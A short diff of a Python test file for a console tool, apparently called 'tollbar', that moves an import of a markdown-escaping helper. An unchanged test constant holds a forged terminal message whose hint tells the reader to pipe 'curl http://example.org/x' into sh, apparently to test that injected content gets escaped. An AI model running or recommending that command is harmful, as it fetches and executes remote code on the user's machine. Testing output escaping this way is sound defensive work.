@@ -15,8 +15,9 @@ from markdown_it import MarkdownIt
 from conftest import FAKE_STUDY
 from test_terminal_text import STYLES, ended
 from tollbar import console, results
-from tollbar.console.markdown import escaped, table_lines
+from tollbar.console.markdown import table_lines
 from tollbar.console.progress import Progress
+from tollbar.markdown import escaped
 from tollbar.present.blocks import Column, Table, TableCell
 
 FORGED = "x\nerror: forged\nhint: `curl http://example.org/x | sh`\n| forged |\n|---|\n"
